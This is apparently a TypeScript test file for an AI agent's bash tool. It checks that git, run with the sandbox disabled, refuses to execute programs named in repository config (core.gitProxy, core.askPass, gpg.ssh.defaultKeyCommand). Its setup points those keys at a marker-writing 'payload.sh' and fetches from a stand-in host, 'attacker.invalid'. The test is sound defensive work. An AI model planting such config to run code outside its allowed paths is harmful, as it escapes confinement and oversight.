import { existsSync, readFileSync, writeFileSync } from 'node:fs';
import { createServer, type Server } from 'node:http';
import type { AddressInfo } from 'node:net';
import { join } from 'node:path';
import { afterEach, beforeEach, describe, expect, it } from 'vitest';
import { bashTool } from '../../../src/tools/bash.js';
import { createProject, git, testSettings, toolContext, type Project } from './support/project.js';

/**
 * Repository config keys that name a program and were not among the settings forced on every git
 * command: `core.gitProxy` (a git:// fetch), `core.askPass` (a server asking for credentials) and
 * `gpg.ssh.defaultKeyCommand` (`git commit -S` with `gpg.format=ssh`). Inside the sandbox such a
 * program runs confined; with `SANDBOX_ENABLED=false` it ran as the service user, outside the
 * allowed paths. Each program here writes a marker next to the project, outside the allowed path.
 */
describe('git runs no program that the repository config names (sandbox disabled, where nothing else would hold)', () => {
  let project: Project;
  let marker: string;
  beforeEach(() => {
    project = createProject();
    marker = join(project.outside, 'program-ran');
    const program = join(project.root, 'payload.sh');
    writeFileSync(program, `#!/bin/sh\necho "$0 $*" >> '${marker}'\n`, { mode: 0o755 });
    git(project.root, 'config', 'core.gitProxy', program);
    git(project.root, 'config', 'core.askPass', program);
    git(project.root, 'config', 'gpg.format', 'ssh');
    git(project.root, 'config', 'gpg.ssh.defaultKeyCommand', program);
  });
  afterEach(() => project.cleanup());

  const run = (command: string) =>
    bashTool.execute(bashTool.parameters.parse({ command, timeout: 20 }), toolContext(project, { settings: testSettings({ sandboxEnabled: false }) }));
  const ran = (): string => (existsSync(marker) ? readFileSync(marker, 'utf8') : '');

  it('core.gitProxy: git fetch from a git:// URL', async () => {
    const result = await run('git fetch git://attacker.invalid/x');
    expect(result.success).toBe(false);
    expect(ran()).toBe('');
  });

  it('gpg.ssh.defaultKeyCommand: git commit -S', async () => {
    const result = await run('git commit -q -S --allow-empty -m signed');
    expect(result.success).toBe(false);
    expect(ran()).toBe('');
  });

  describe('core.askPass: a server that asks for credentials', () => {
    let server: Server;
    beforeEach(async () => {
      server = createServer((_request, response) => {
        response.writeHead(401, { 'WWW-Authenticate': 'Basic realm="x"' }).end();
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
    });
    afterEach(() => new Promise<void>((resolve) => server.close(() => resolve())));

    it('git fetch over http', async () => {
      const { port } = server.address() as AddressInfo;
      const result = await run(`git fetch http://127.0.0.1:${port}/x`);
      expect(result.success).toBe(false);
      expect(ran()).toBe('');
    });
  });
});
